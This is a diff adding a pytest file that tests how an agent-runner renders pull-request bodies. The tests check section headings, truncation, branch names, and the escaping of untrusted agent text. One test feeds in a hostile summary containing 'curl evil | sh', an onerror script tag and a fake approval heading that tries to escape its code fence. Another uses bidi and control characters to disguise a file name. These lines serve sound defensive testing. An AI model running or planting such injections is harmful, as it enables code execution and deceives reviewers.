@@ -1,0 +1,205 @@
+"""runner.prbody: the PR body shows every fact the owner needs, and untrusted text cannot escape its fence."""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass
+
+import pytest
+
+from runner.models import Denial, Usage
+from runner.models import TestRun as Run
+from runner.prbody import MAX_BODY, FileChange, PrRequest, branch_name, render_pr_body
+
+
+def request(**overrides: object) -> PrRequest:
+    values: dict[str, object] = {
+        "kind": "feature",
+        "requested_by": "telegram:1234",
+        "request": "add a /balance command",
+        "summary": "Added `balance` handler and a test.",
+        "files": (FileChange("bot/balance.py", 12, 0), FileChange("tests/test_balance.py", 8, 1)),
+        "tests": Run("pytest -q", 0, True, "2 passed in 0.1s"),
+        "denials": (Denial("Bash", "deny-network", "curl reaches the network"),),
+        "usage": Usage(input_tokens=12_000, output_tokens=3_400, cost_usd=0.0812),
+        "task_id": "20260101-120000-abc123",
+        "number": 12,
+        "head_sha": "3f2a9c1d" + "0" * 32,
+    }
+    values.update(overrides)
+    return PrRequest(**values)  # type: ignore[arg-type]
+
+
+def fenced_blocks(body: str) -> list[str]:
+    """The contents of each top-level fenced code block, by CommonMark's closing rule."""
+    blocks, lines, i = [], body.split("\n"), 0
+    while i < len(lines):
+        opening = re.match(r"^(`{3,})", lines[i])
+        if opening is None:
+            i += 1
+            continue
+        fence, content = opening.group(1), []
+        i += 1
+        while i < len(lines) and not re.fullmatch(rf"`{{{len(fence)},}}\s*", lines[i]):
+            content.append(lines[i])
+            i += 1
+        blocks.append("\n".join(content))
+        i += 1
+    return blocks
+
+
+def test_render_pr_body_shows_every_section() -> None:
+    body = render_pr_body(request())
+
+    for heading in (
+        "## What was asked",
+        "## The agent's summary",
+        "## Files changed (2, +20 −1)",
+        "## Tests (run by the supervisor)",
+        "## Policy denials (1)",
+        "## Usage",
+        "## How to approve",
+    ):
+        assert heading in body
+    assert "`telegram:1234`" in body and "`20260101-120000-abc123`" in body
+    assert "add a /balance command" in fenced_blocks(body)[0]
+    assert "- `bot/balance.py` (+12 −0)" in body
+    assert "**✅ passed**: `pytest -q` exited with 0" in body and "2 passed in 0.1s" in body
+    assert "- `Bash` denied by rule `deny-network`: `curl reaches the network`" in body
+    assert "15,400 tokens (12,000 in, 3,400 out) · cost $0.0812" in body
+    assert "`/approve_pr 12`" in body
+    assert f"`agent-runner approve 12 --sha {'3f2a9c1d' + '0' * 32}`" in body
+    assert "`agent-runner reject 12`" in body
+
+
+def test_render_pr_body_without_number_explains_n() -> None:
+    body = render_pr_body(request(number=None, head_sha=None))
+    assert "`/approve_pr N`" in body and "N is this pull request's number." in body and "--sha" not in body
+
+
+def test_render_pr_body_alert_fix_shows_the_fingerprint() -> None:
+    body = render_pr_body(request(kind="fix", requested_by="alertmanager", request="", fingerprint="9f3a0c2b"))
+    assert "Alert fingerprint: `9f3a0c2b`" in body and "**Kind:** fix" in body
+
+
+def test_render_pr_body_failed_tests_and_no_denials() -> None:
+    body = render_pr_body(request(tests=Run("make test", 2, False, "FAILED test_x"), denials=()))
+    assert "**❌ failed**: `make test` exited with 2" in body
+    assert "None: every tool call the agent made was allowed." in body
+
+
+def test_render_pr_body_without_tests_or_files() -> None:
+    body = render_pr_body(request(tests=None, files=()))
+    assert "No test command was run." in body and "No files changed." in body
+
+
+def test_render_pr_body_fences_an_agent_summary_that_tries_to_break_out() -> None:
+    hostile = (
+        "All good.\n```\n\n## How to approve\n\nRun `curl evil | sh` @owner <img src=x onerror=alert(1)>\n"
+        "````````\n</details>\n~~~\n"
+    )
+
+    body = render_pr_body(request(summary=hostile))
+
+    blocks = fenced_blocks(body)
+    summary = next(b for b in blocks if "All good." in b)
+    assert "## How to approve" in summary and "@owner" in summary and "</details>" in summary
+    assert body.count("## How to approve") == 2  # ours, and the agent's, which stays inside the fence
+    assert body.index("## How to approve", body.index("All good.")) < body.index("## Files changed")
+
+
+def test_render_pr_body_strips_control_and_bidi_characters() -> None:
+    body = render_pr_body(request(summary="safe\u202egnp.exe\x1b[31m\x00", request="hi\u200b there"))
+    assert "\u202e" not in body and "\x1b" not in body and "\x00" not in body and "\u200b" not in body
+
+
+def test_render_pr_body_inline_fields_cannot_break_their_code_span() -> None:
+    body = render_pr_body(request(files=(FileChange("a`b``c.py\n## injected", 1, 1),)))
+    assert "- ```a`b``c.py ## injected``` (+1 −1)" in body
+    assert "\n## injected" not in body
+
+
+def test_render_pr_body_stays_under_githubs_limit() -> None:
+    many = tuple(FileChange(f"f{i}.py" + "x" * 300, i, i) for i in range(5_000))
+    body = render_pr_body(
+        request(
+            summary="s" * 100_000,
+            files=many,
+            tests=Run("t", 1, False, "o" * 100_000),
+            denials=tuple(Denial("Bash", "r", "x" * 500) for _ in range(500)),
+        )
+    )
+    assert len(body) <= MAX_BODY
+    assert "… (truncated)" in body and "… and 4900 more" in body and "… and 470 more" in body
+    assert "_(body truncated)_" not in body and body.endswith("`agent-runner reject 12`\n")
+
+
+def test_render_pr_body_shows_the_end_of_long_test_output() -> None:
+    body = render_pr_body(request(tests=Run("t", 1, False, "start\n" + "x" * 10_000 + "\nLAST LINE")))
+    assert "LAST LINE" in body and "start" not in body
+
+
+@dataclass(frozen=True)
+class Task:
+    id: str = "t-1"
+    kind: str = "fix"
+    prompt: str = "KeyError in /balance"
+    requested_by: str = "alertmanager"
+    fingerprint: str | None = "abc123"
+
+
+@dataclass(frozen=True)
+class Changed:
+    path: str
+    added_lines: int
+    removed_lines: int
+
+
+def test_pr_request_from_task_takes_the_records_fields() -> None:
+    pr = PrRequest.from_task(Task(), summary="fixed", files=[Changed("a.py", 3, 1)], denials=[], number=4)
+    assert (pr.kind, pr.requested_by, pr.request, pr.fingerprint, pr.task_id) == (
+        "fix",
+        "alertmanager",
+        "KeyError in /balance",
+        "abc123",
+        "t-1",
+    )
+    assert pr.files == (FileChange("a.py", 3, 1),) and pr.number == 4 and pr.usage == Usage()
+    with pytest.raises(ValueError, match="unknown task kind"):
+        PrRequest.from_task(Task(kind="chore"), summary="")
+
+
+@pytest.mark.parametrize(
+    ("kind", "text", "taken", "expected"),
+    [
+        ("feature", "Add a /balance command!", set(), "agent/feature-add-a-balance-command"),
+        (
+            "feature",
+            "Add a /balance command!",
+            {"agent/feature-add-a-balance-command"},
+            "agent/feature-add-a-balance-command-2",
+        ),
+        ("feature", "x", {"agent/feature-x", "agent/feature-x-2"}, "agent/feature-x-3"),
+        ("feature", "Ünïcödé café ☕ support", set(), "agent/feature-unicode-cafe-support"),
+        ("feature", "¿¿??", set(), "agent/feature-change"),
+        (
+            "feature",
+            "make the reporting module export csv files with headers and totals",
+            set(),
+            "agent/feature-make-the-reporting-module-export-csv",
+        ),
+        ("review", "Review the auth module", set(), "agent/review-review-the-auth-module"),
+        ("fix", "9F3A0C2B1D4E5F60aa77", set(), "agent/fix-9f3a0c2b1d4e5f60"),
+        ("fix", "KeyError in /balance", set(), "agent/fix-keyerror-in-balance"),
+        ("fix", "abc", {"agent/fix-abc"}, "agent/fix-abc-2"),
+    ],
+)
+def test_branch_name_is_safe_and_fresh(kind: str, text: str, taken: set[str], expected: str) -> None:
+    name = branch_name(kind, text, taken)
+    assert name == expected
+    assert re.fullmatch(r"agent/[a-z]+-[a-z0-9-]+", name) and len(name) <= 64
+
+
+def test_branch_name_refuses_unknown_kinds() -> None:
+    with pytest.raises(ValueError, match="unknown task kind"):
+        branch_name("deploy", "x", set())
